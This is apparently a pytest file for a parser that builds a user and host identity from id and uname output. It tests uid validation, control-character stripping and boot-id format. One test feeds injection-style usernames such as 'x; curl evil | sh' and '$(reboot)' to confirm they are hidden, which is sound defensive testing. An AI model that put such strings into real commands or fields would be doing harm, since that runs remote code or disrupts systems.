"""Who we are on the node."""

from __future__ import annotations

from pathlib import Path

import pytest

from haconsole.model.readings import Rights
from haconsole.parse.errors import ParseError
from haconsole.parse.identity import parse_boot_id, parse_identity, parse_kernel_release, parse_tools

TEXT = (Path(__file__).parents[2] / "fixtures" / "system" / "identity" / "identity.txt").read_text(encoding="utf-8")


def test_a_plain_user() -> None:
    answers = dict(part.split("\n", 1) for part in TEXT.split("$ ")[1:])
    who = parse_identity(
        uid=answers["id -u"],
        user=answers["id -un"],
        groups=answers["id -Gn"],
        hostname=answers["uname -n"],
        boot_id=answers["cat /proc/sys/kernel/random/boot_id"],
        rights=Rights.SUDO,
        tools={"ip": True},
    )
    assert (who.user, who.uid, who.hostname, who.rights) == ("ops", 1001, "proxy-serv01", Rights.SUDO)
    assert who.groups == {"ops", "adm", "systemd-journal"}
    assert who.boot_id == "170e963e-1cb4-4aef-ac4d-aa3f2bf0f519"
    assert who.tools == {"ip": True}


def test_a_login_without_a_name_goes_by_its_number() -> None:
    who = parse_identity(uid="1001\n", user="", groups="", hostname="n", rights=Rights.PLAIN)
    assert (who.user, who.groups, who.boot_id) == ("1001", frozenset(), None)


@pytest.mark.parametrize(
    ("uid", "hostname"), [("", "n"), ("root", "n"), ("-1", "n"), ("9" * 5000, "n"), ("0", ""), ("0", " \n")]
)
def test_without_a_number_or_a_host_name_there_is_no_identity(uid: str, hostname: str) -> None:
    with pytest.raises(ParseError):
        parse_identity(uid=uid, user="x", groups="x", hostname=hostname, rights=Rights.PLAIN)


def test_names_come_out_without_control_characters() -> None:
    who = parse_identity(uid="0", user="a\x1b[1m", groups="g\x07", hostname="h\u202e", rights=Rights.ROOT)
    assert (who.user, who.groups, who.hostname) == ("0", {"g␇"}, "h�")


@pytest.mark.parametrize(
    ("user", "shown"),
    [
        ("ops", "ops"), ("CORP\\ops-1", "CORP\\ops-1"), ("ops@corp.example", "ops@corp.example"), ("_squid$", "_squid$"),
        ("x; curl evil | sh", "7"), ("$(reboot)", "7"), ("-G", "7"), ("a b", "7"), ("a" * 300, "7"),
    ],
)  # fmt: skip
def test_a_name_that_would_do_something_in_a_line_that_people_copy_is_not_shown(user: str, shown: str) -> None:
    who = parse_identity(uid="7", user=user + "\n", groups="", hostname="h", rights=Rights.PLAIN)
    assert who.user == shown


def test_what_is_no_boot_id_is_none() -> None:
    for text in (
        "",
        "cat: No such file",
        "170E963E-1CB4-4AEF-AC4D-AA3F2BF0F519",
        "170e963e-1cb4-4aef-ac4d-aa3f2bf0f519x",
    ):
        assert parse_boot_id(text) is None


def test_tools_are_found_by_whole_names() -> None:
    assert parse_tools("ip\nsystemctl\n", ("ip", "ss", "system")) == {"ip": True, "ss": False, "system": False}


def test_kernel_release() -> None:
    assert parse_kernel_release("6.1.0-28-amd64\n") == "6.1.0-28-amd64"
    with pytest.raises(ParseError):
        parse_kernel_release("\n")
